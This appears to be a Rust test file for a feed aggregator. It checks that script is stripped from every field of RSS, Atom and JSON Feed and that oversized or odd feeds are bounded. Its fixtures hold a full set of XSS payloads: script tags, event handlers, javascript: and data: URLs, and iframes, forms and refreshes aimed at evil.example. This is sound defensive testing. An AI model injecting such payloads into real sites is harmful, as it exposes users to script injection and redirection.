//! Hostile content, one scenario each: script in every field of RSS, Atom and JSON
//! Feed, 100 000 entries, 1 000 items under one guid, dates from 2099 and 1970, a
//! 1 MB title.

use crate::{Scenario, body, rss, scenario};
use std::time::Duration;

const POLL: &str = "concurrency = 8\nper_host = 8\n[publish]\nmax_per_source = 10";

/// `document` at `path`, served as `content_type` next to the healthy feed, and the
/// checks every case shares. Returns the scenario and its peak RSS in kB.
fn case(path: &str, content_type: &str, document: Vec<u8>) -> (Scenario, u64) {
    let mut case = scenario("content", POLL, |server, _, _| {
        server.body(path, content_type, document);
        vec![(server.url(path), "")]
    });
    let peak = case.bench.assert_sound("content", &[]);
    (case, peak)
}

/// The outputs stay small; prints the scenario's time and memory.
fn finish(case: &Scenario, name: &str, peak: u64) {
    case.assert_outputs_small();
    case.bench.report(name, peak);
}

/// `/feed.json` as text and parsed.
fn feed_json(case: &Scenario) -> (String, serde_json::Value) {
    let json = body(&case.bench.daemon.get("/feed.json")).to_string();
    let feed = serde_json::from_str(&json).unwrap();
    (json, feed)
}

/// Sanitized, not dropped: the story around the script survives in the item whose
/// title starts with `title`.
fn assert_story_kept(case: &Scenario, title: &str) {
    let (json, feed) = feed_json(case);
    let items = feed["items"].as_array().unwrap();
    let item = items
        .iter()
        .find(|i| i["title"].as_str().is_some_and(|t| t.starts_with(title)))
        .unwrap_or_else(|| panic!("no item {title:?} in {json}"));
    let html = item["content_html"].as_str().unwrap_or_default();
    assert!(
        html.contains("Story text") || html.contains("xhtml"),
        "{title}: {html}"
    );
}

/// Every way we know to carry script, styles or navigation in HTML.
const XSS_HTML: &str = r#"<p>Story text</p><script>alert('script')</script><img src="x.png" onerror="alert('onerror')"><body onload="alert('onload')"><a href="javascript:alert('a')">js link</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a><svg onload="alert('svg')"><circle r="1"/></svg><iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><style>body{background:url("javascript:alert('css')")}</style><div style="width: expression(alert('expr'))">expr</div><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name="p"></form><p>End of story</p>"#;

fn xml_escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn xss_rss() -> Vec<u8> {
    let title = xml_escape(
        r#"RSS xss title <script>alert('t')</script><img src=x onerror=alert(1)><svg onload=alert(2)>"#,
    );
    let body = xml_escape(XSS_HTML);
    let items = format!(
        r#"<item><title>{title}</title><link>javascript:alert('link')</link><guid isPermaLink="false">xss-1</guid><description>{body}</description><content:encoded><![CDATA[{XSS_HTML}]]></content:encoded><enclosure url="javascript:alert('enc')" type="audio/mpeg" length="1"/><comments>javascript:alert('comments')</comments><author>x@example.org (<script>alert('author')</script>)</author><category>&lt;script&gt;alert('cat')&lt;/script&gt;</category></item><item><title>RSS xss data link</title><link>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</link><guid isPermaLink="false">xss-2</guid><description>{body}</description></item>"#
    );
    format!(
        "<?xml version=\"1.0\"?>\n<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>{title}</title><link>javascript:alert('channel')</link><description>{body}</description>{items}</channel></rss>"
    )
    .into_bytes()
}

fn xss_atom() -> Vec<u8> {
    let body = xml_escape(XSS_HTML);
    format!(
        r#"<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">Atom xss &lt;script&gt;alert('feed')&lt;/script&gt;</title><id>urn:xss</id><updated>2026-06-01T10:00:00Z</updated><link href="javascript:alert('feed')"/>
<entry><title type="html">Atom xss html title &lt;img src=x onerror=alert(1)&gt;</title><id>urn:xss:1</id><updated>2026-06-01T10:00:00Z</updated><link rel="alternate" href="javascript:alert('entry')"/><summary type="html">{body}</summary><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>xhtml</p><script>alert('xhtml')</script><a href="javascript:alert(1)">x</a><img src="x" onerror="alert(1)"/></div></content></entry>
<entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Atom xss xhtml title <script>alert('t')</script></div></title><id>urn:xss:2</id><updated>2026-06-01T11:00:00Z</updated><link href="https://example.org/ok"/><content type="html">{body}</content></entry>
</feed>"#
    )
    .into_bytes()
}

fn xss_json() -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JSON xss <script>alert('feed')</script>",
        "home_page_url": "javascript:alert('home')",
        "items": [{
            "id": "json-xss-1",
            "url": "javascript:alert('url')",
            "external_url": "data:text/html,<script>alert(1)</script>",
            "title": "JSON xss title <img src=x onerror=alert(1)>",
            "content_html": XSS_HTML,
            "summary": XSS_HTML,
            "image": "javascript:alert('image')",
            "date_published": "2026-06-01T10:00:00Z",
            "authors": [{"name": "<script>alert('author')</script>", "url": "javascript:alert(1)"}],
            "tags": ["<script>alert('tag')</script>"],
            "attachments": [{"url": "javascript:alert('att')", "mime_type": "audio/mpeg"}]
        }]
    }))
    .unwrap()
}

fn many_items(count: usize) -> Vec<u8> {
    let items: String = (0..count)
        .map(|i| format!("<item><title>many {i}</title><guid>m{i}</guid></item>"))
        .collect();
    rss("Many", &items)
}

fn one_guid(count: usize) -> Vec<u8> {
    let items: String = (0..count)
        .map(|i| format!("<item><title>same guid {i}</title><link>https://example.org/same/{i}</link><guid isPermaLink=\"false\">the-one-guid</guid><pubDate>Mon, 01 Jun 2026 10:00:00 GMT</pubDate></item>"))
        .collect();
    rss("One guid", &items)
}

fn odd_dates() -> Vec<u8> {
    rss(
        "Odd dates",
        "<item><title>from 2099</title><guid>d2099</guid><pubDate>Thu, 01 Jan 2099 00:00:00 GMT</pubDate></item><item><title>from 1970</title><guid>d1970</guid><pubDate>Thu, 01 Jan 1970 00:00:00 GMT</pubDate></item><item><title>epoch zero</title><guid>d0</guid><pubDate>0</pubDate></item>",
    )
}

fn big_title(size: usize) -> Vec<u8> {
    let title = "T".repeat(size);
    rss(
        "Big title",
        &format!(
            "<item><title>big {title}</title><guid>big-1</guid><description>x</description></item>"
        ),
    )
}

#[test]
fn script_in_every_rss_field_is_removed() {
    let (case, peak) = case("/xss-rss", "application/rss+xml", xss_rss());
    case.assert_ok("/xss-rss");
    assert_story_kept(&case, "RSS xss title");
    finish(&case, "content RSS script", peak);
}

#[test]
fn script_in_every_atom_field_is_removed() {
    let (case, peak) = case("/xss-atom", "application/atom+xml", xss_atom());
    case.assert_ok("/xss-atom");
    assert_story_kept(&case, "Atom xss html title");
    finish(&case, "content Atom script", peak);
}

#[test]
fn script_in_every_json_feed_field_is_removed() {
    let (case, peak) = case("/xss-json", "application/feed+json", xss_json());
    case.assert_ok("/xss-json");
    assert_story_kept(&case, "JSON xss title");
    finish(&case, "content JSON Feed script", peak);
}

/// 100 000 entries: the newest 1 000 are kept, with a warning.
#[test]
fn of_100_000_entries_the_newest_1000_are_kept() {
    let (case, peak) = case("/many", "application/rss+xml", many_items(100_000));
    assert_eq!(case.bench.status(&case.url("/many")).items, Some(1000));
    case.bench
        .daemon
        .wait_for_log("more entries than are kept", Duration::from_secs(1));
    finish(&case, "content 100 000 entries", peak);
}

/// 1 000 items under one guid are one item.
#[test]
fn items_under_one_guid_are_one_item() {
    let (case, peak) = case("/one-guid", "application/rss+xml", one_guid(1000));
    assert_eq!(case.bench.status(&case.url("/one-guid")).items, Some(1));
    finish(&case, "content one guid", peak);
}

/// 2099 is clamped to the fetch time; 1970 stays in 1970 (and ages out by retention).
#[test]
fn dates_from_the_future_are_clamped() {
    let (case, peak) = case("/dates", "application/rss+xml", odd_dates());
    case.assert_ok("/dates");
    let (json, feed) = feed_json(&case);
    if let Some(at) = json.find("2099-") {
        panic!(
            "a date in 2099: {}",
            &json[at.saturating_sub(600)..at + 100]
        );
    }
    let items = feed["items"].as_array().unwrap();
    let old = items.iter().find(|i| i["title"] == "from 1970").unwrap();
    assert!(old["date_published"].as_str().unwrap().starts_with("1970-"));
    finish(&case, "content odd dates", peak);
}

/// The 1 MB title is cut to 1 000 characters and an ellipsis.
#[test]
fn a_1_mb_title_is_cut() {
    let (case, peak) = case("/big-title", "application/rss+xml", big_title(1 << 20));
    case.assert_ok("/big-title");
    let (_, feed) = feed_json(&case);
    let items = feed["items"].as_array().unwrap();
    let big = items
        .iter()
        .find_map(|i| i["title"].as_str().filter(|t| t.starts_with("big TTT")))
        .unwrap();
    assert_eq!(big.chars().count(), 1001);
    finish(&case, "content 1 MB title", peak);
}
